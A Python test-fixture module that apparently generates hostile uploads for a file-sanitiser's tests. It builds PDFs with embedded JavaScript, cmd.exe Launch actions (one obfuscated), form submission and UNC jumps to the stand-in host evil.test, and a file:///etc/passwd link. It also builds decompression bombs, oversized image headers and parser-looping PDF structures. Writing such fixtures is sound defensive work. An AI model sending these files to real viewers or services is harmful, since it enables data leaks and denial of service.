"""Files that mean harm, each a few kilobytes at most a megabyte, and none of them read here."""

import io
import struct
import zipfile
import zlib

from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, Stream, StreamDecodeLevel

from tests.uploads import documents
from tests.uploads.pictures import draw, save


def jpeg_of_size(width: int, height: int) -> bytes:
    """A small JPEG whose header claims another size."""
    content = bytearray(save(draw(64, 64)))
    frame = content.index(b"\xff\xc0")
    content[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def jpeg_of_scans(scans: int, side: int = 64) -> bytes:
    """A progressive JPEG whose last scan is repeated until it has this many."""
    content = save(draw(side, side), progressive=True, quality=60)
    last = content.rindex(b"\xff\xda")
    return content[:last] + content[last:-2] * (scans - content.count(b"\xff\xda") + 1) + content[-2:]


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_of_size(width: int, height: int) -> bytes:
    """A PNG of a few bytes that claims to be huge."""
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + png_chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + png_chunk(b"IEND", b"")


def png_with_text_bomb() -> bytes:
    """A good PNG with a comment that unpacks to 200 MB."""
    content = save(draw(64, 64), "PNG")
    text = b"Comment\0\x01\0\0\0" + zlib.compress(b"a" * 200_000_000, 9)
    return content[:33] + png_chunk(b"iTXt", text) + content[33:]


def zip_archive() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("payload.sh", "echo")
    return target.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def script_of_the_document(made: Pdf) -> None:
    tree = Dictionary(Names=Array(["start", made.make_indirect(script())]))
    made.Root.Names = Dictionary(JavaScript=made.make_indirect(tree))


def script_after_a_jump(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([made.pages[0].obj, Name.Fit]), Next=Array([script()]))


def script_in_a_calculated_field(made: Pdf) -> None:
    documents.filled_form(made)
    made.Root.AcroForm.Fields[0].AA = Dictionary(C=script())


def script_in_a_stream(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=made.make_indirect(Stream(made, b"app.alert(1)")))


def script_that_nothing_refers_to(made: Pdf) -> None:
    """Reached from nowhere that a viewer should look at; some look all the same."""
    made.Root.Unused = made.make_indirect(script())


def file_inside(made: Pdf) -> None:
    made.attachments["payload.exe"] = b"MZ payload"


def file_as_a_note(made: Pdf) -> None:
    documents.annotation(Subtype=Name.FileAttachment)(made)


def program_form(made: Pdf) -> None:
    documents.form(XFA=made.make_indirect(Stream(made, b"<xdp/>")))(made)


ACTIVE = {
    "a script of the document": documents.pdf(script_of_the_document),
    "a script on opening": documents.pdf(documents.on_opening(script())),
    "a script in a stream": documents.pdf(script_in_a_stream),
    "a script packed in an object stream": documents.pdf(
        script_in_a_stream, object_stream_mode=ObjectStreamMode.generate
    ),
    "a script after a harmless jump": documents.pdf(script_after_a_jump),
    "a script on an event of a page": documents.pdf(documents.on_event(script())),
    "a script in a calculated field": documents.pdf(script_in_a_calculated_field),
    "a script behind a link": documents.pdf(documents.link(script())),
    "a script that nothing refers to": documents.pdf(script_that_nothing_refers_to),
    "a script in an owner-locked document": documents.pdf(
        script_of_the_document, encryption=Encryption(owner="x", user="")
    ),
    "a program whose name is written in codes": documents.pdf(documents.link(Dictionary(S=Name.Launch, F="cmd.exe  ")))
    .replace(b"cmd.exe  ", b"cmd.exe")
    .replace(b"/Launch", b"/L#61unch"),
    "a program to start": documents.pdf(documents.link(Dictionary(S=Name.Launch, F="cmd.exe"))),
    "a form that sends itself": documents.pdf(documents.link(Dictionary(S=Name.SubmitForm, F="https://evil.test/"))),
    "data from elsewhere": documents.pdf(documents.link(Dictionary(S=Name.ImportData, F="x.fdf"))),
    "a jump into another file": documents.pdf(
        documents.link(Dictionary(S=Name.GoToR, F="\\\\evil.test\\share\\x.pdf"))
    ),
    "a web page on opening": documents.pdf(documents.on_opening(Dictionary(S=Name.URI, URI="https://evil.test/"))),
    "a link that is a script": documents.pdf(documents.web_link(" JavaScript:alert(1)")),
    "a link to a file": documents.pdf(documents.web_link("file:///etc/passwd")),
    "a link to a share": documents.pdf(documents.web_link("\\\\evil.test\\share")),
}
FILES_INSIDE = {"an attachment": documents.pdf(file_inside), "a note with a file": documents.pdf(file_as_a_note)}
MEDIA_INSIDE = {
    name: documents.pdf(documents.annotation(Subtype=Name(name))) for name in ("/RichMedia", "/3D", "/Movie", "/Screen")
}


def stream_bomb(size: int = 1_200_000_000, layers: int = 2) -> bytes:
    """A few kilobytes that unpack to more than any reader wants to hold."""

    def change(made: Pdf) -> None:
        squeeze = zlib.compressobj(9)
        packed = b"".join(squeeze.compress(bytes(10_000_000)) for _ in range(size // 10_000_000)) + squeeze.flush()
        for _ in range(layers - 1):
            packed = zlib.compress(packed, 9)
        made.pages[0].Contents = made.make_indirect(Stream(made, packed, Filter=[Name.FlateDecode] * layers))

    return documents.pdf(change, stream_decode_level=StreamDecodeLevel.none, compress_streams=False)


def bomb_before_a_picture() -> bytes:
    """Unpacked first, and only then said to be a JPEG."""

    def change(made: Pdf) -> None:
        picture = Stream(made, zlib.compress(bytes(700_000_000), 9), Filter=[Name.FlateDecode, Name.DCTDecode])
        made.pages[0].Contents = made.make_indirect(picture)

    return documents.pdf(change, stream_decode_level=StreamDecodeLevel.none, compress_streams=False)


def page_tree_loop(made: Pdf) -> None:
    made.Root.Pages.Kids.append(made.Root.Pages)


def many_claimed_pages() -> bytes:
    content = documents.pdf(lambda made: made.Root.Pages.__setitem__("/Room", "xxxxxxxx"))
    return content.replace(b"(xxxxxxxx)", b"()").replace(b"/Count 1", b"/Count 999999999")


def one_page_a_hundred_thousand_times(made: Pdf) -> None:
    made.Root.Pages.Kids = Array([made.Root.Pages.Kids[0]] * 100_000)


def table_that_points_back_to_itself() -> bytes:
    """A table of contents whose former version is itself."""
    content = documents.pdf(object_stream_mode=ObjectStreamMode.disable)
    at = int(content[content.rindex(b"startxref") :].split()[1])
    return content.replace(b"trailer <<", b"trailer << /Prev %d" % at, 1)


def table_of_a_billion_entries() -> bytes:
    content = documents.pdf(object_stream_mode=ObjectStreamMode.disable)
    start = content.rindex(b"xref\n0 ")
    end = content.index(b"\n", start + 5)
    return content[:start] + b"xref\n0 1000000000" + content[end:]


def deep_nesting() -> bytes:
    content = documents.pdf(lambda made: made.Root.__setitem__("/Deep", "x" * 399_998))
    return content.replace(b"(" + b"x" * 399_998 + b")", b"[" * 200_000 + b"]" * 200_000)


def object_stream_bomb(size: int = 800_000_000) -> bytes:
    """The objects themselves are packed, and unpack to more than memory holds before one of them can be looked at."""
    squeeze = zlib.compressobj(9)
    packed = squeeze.compress(b"6 0 <<>>") + b"".join(
        squeeze.compress(b" " * 10_000_000) for _ in range(size // 10_000_000)
    )
    packed += squeeze.flush()
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R/Held 6 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed),
    ]
    content, rows = b"%PDF-1.7\n", [struct.pack(">BIH", 0, 0, 65535)]
    for number, body in enumerate(bodies, start=1):
        rows.append(struct.pack(">BIH", 1, len(content), 0))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(content)
    table = b"".join([*rows, struct.pack(">BIH", 1, start, 0), struct.pack(">BIH", 2, 4, 0)])
    head = b"<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>" % len(table)
    return content + b"5 0 obj\n%sstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, table, start)
